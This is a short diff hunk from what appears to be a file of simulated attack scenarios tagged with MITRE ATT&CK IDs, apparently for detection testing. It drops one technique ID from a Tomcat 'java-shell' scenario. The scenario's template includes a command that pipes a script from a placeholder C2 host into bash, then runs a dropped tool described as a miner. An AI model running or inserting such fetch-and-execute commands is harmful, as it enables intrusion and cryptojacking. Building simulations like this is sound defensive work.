@@ -62,7 +62,7 @@ nothing
 or
 C:\Windows\Temp\{tool}.exe
 """),
-    Attack("java-shell", ("tomcat-linux",), ("T1190", "T1059.004", "T1496", "T1053.003"), "curl into bash, then a miner", r"""
+    Attack("java-shell", ("tomcat-linux",), ("T1190", "T1059.004", "T1496"), "curl into bash, then a miner", r"""
 sh: curl -fsSL http://{c2}/{rnd}.sh | bash
   /usr/bin/chmod | chmod +x {nixdrop}/{nixtool}
   {nixdrop}/{nixtool}
